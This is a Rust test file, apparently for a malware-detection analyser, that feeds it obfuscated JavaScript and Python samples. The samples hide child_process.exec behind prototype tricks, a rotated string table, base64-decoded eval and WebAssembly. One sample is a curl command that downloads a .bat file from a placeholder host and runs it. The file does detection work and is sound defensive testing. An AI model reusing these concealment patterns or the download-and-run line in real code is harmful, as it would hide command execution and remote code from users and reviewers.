    for code in [
        "String.prototype.pick = function () { var out = ''; var a = this.split(','); for (var i = 0; i < a.length; i++) \
         out += 'ihx ceo'.substr(a[i], 1); return out }\nrequire('child_process').exec('5,4,1,6,3,1,0'.pick())",
        "if (!String['prototype'].fill) { String['prototype'].fill = function () { var given = arguments; return \
         this.replace(/{(\\d+)}/g, function (whole, at) { return typeof given[at] != 'undefined' ? given[at] : whole }) } }\n\
         require('child_process').exec('e{0} {1}i'.fill('cho', 'h'))",
        "Object.defineProperty(Array.prototype, 'all', { value: function () { return this.join('') } });\n\
         require('child_process').exec(['ec', 'ho', ' hi'].all())",
        "eval('Array.prototype.go = eval'); [].go(\"require('child_process').exec('echo hi')\")",
    ] {
        let outcome = outcome(Language::JavaScript, code);
        assert_eq!(subject(&outcome, Act::Run), "echo hi", "{code}");
    }
}

#[test]
fn tables_that_turn_themselves_are_read_as_they_end_up() {
    // What JS-Confuser makes: a turned table, functions that are wrapped to change their length, state kept beside the
    // elements of lists, a decoder that is chosen at run time.
    let code = r#"
function nothing() {}
var define = Object['defineProperty'], table;
table = turned.call(this);
function wrap(f, n = 0x0) { var w = function () { return f(...arguments) }; return define(w, 'length', { value: n, configurable: true }) }
function turned() {
    return wrap((list, i = 0x10, c, d = 0x6) => {
        for (i = i; i % 0x4 === 0x0; i++) c = 0x0, list = list.concat(wrap(() => {
            var q; c++; if (c === 0x1) { return [] } for (q = 0x21; q; q--) list.unshift(list.pop()); return []
        })());
        for (d = d; d; d--) list.unshift(list.pop());
        return list
    }, 0x1)(['length', 0x3f, 'undefined', 0x0])
}
var held = [], kept = ['', 'gejq"jk'];
var open = wrap((...a) => {
    nothing(a.length = 0x5, a[0x2] = a[0x2]);
    if (typeof a[0x3] === table[0x0]) { a[0x3] = decode }
    a.state = 0x3f;
    if (typeof a[0x4] === 'undefined') { a[0x4] = held }
    if (a[0x0] !== a[0x1]) { return a[0x4][a[a.state - 0x3f]] || (a[0x4][a[0x0]] = a[0x3](kept[a[0x0]])) }
}, 0x5);
function decode(text) { var out = []; for (var i = 0x0; i < text.length; i++) { out.push(text.charCodeAt(i) - 0x2) } return plain(out) }
function plain(...a) {
    nothing(a.length = 0x1, a[0x93] = a[0x0]);
    if (typeof Decoder !== 'undefined' && Decoder) { return new Decoder().decode(new Bytes(a[0x93])) } else { return '' }
}
var world = (() => globalThis)() || {}, Decoder = world.TextDecoder, Bytes = world.Uint8Array;
const { ['ex' + 'ec']: start } = require('child_process');
start(open(0x1));
"#;
    let outcome = outcome(Language::JavaScript, code);
    assert_eq!(subject(&outcome, Act::Run), "echo hi");
}

#[test]
fn a_file_is_the_same_behind_a_variable_of_the_shell() {
    for code in [
        "require('child_process').exec('curl -so %TEMP%a.bat \"https://h.invalid/a\" && %TEMP%a.bat')",
        "require('child_process').exec('curl -so %TEMP%a.bat \"https://h.invalid/a\" && start \"\" %TEMP%a.bat')",
    ] {
        assert!(rules(Language::JavaScript, code).contains(&"flow-download-run"), "{code}");
    }
}

#[test]
fn a_part_of_a_text_has_nothing_of_its_bounds() {
    // A parser in WebAssembly says where in the text a word begins.
    let wasm = "const c = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('AGFzbQEAAAABBQFgAAF/', 'base64'))).exports;";
    let parser = format!("{wasm} exports.parse = text => (0, eval)(text.slice(c.start(), c.end()))");
    assert!(!rules(Language::JavaScript, &parser).contains(&"flow-decoded-code"));
    let hidden = "const whole = unlock(Buffer.from('kJGSk5SVlpeYmZqb', 'base64')); eval(whole.slice(4, end()))";
    let outcome = outcome(Language::JavaScript, hidden);
    assert!(event(&outcome, Act::Eval).of.any(Labels::DECODED), "{:?}", outcome.events);
}

#[test]
fn lists_of_several_kinds_have_no_order() {
    // Sorting by a comparison that is no order panics; a script that made the reader do so was read no further.
    let items: Vec<String> = (0..64)
        .map(|i| match i % 4 {
            0 => format!("'{}'", 97 * i % 61),
            1 => (89 * i % 53).to_string(),
            2 => format!("b'{}'", 83 * i % 47),
            _ => "float('nan')".to_owned(),
        })
        .collect();
    let code = format!(
        "import os\nx = sorted([{}])\ny = [3, 2, 1]\ny.sort()\nos.system('echo ' + str(y[0]))\n",
        items.join(", ")
    );
    let outcome = python(&code);
    assert!(outcome.events.iter().any(|e| e.act == Act::Run && e.subject.as_deref() == Some("echo 1")));
}
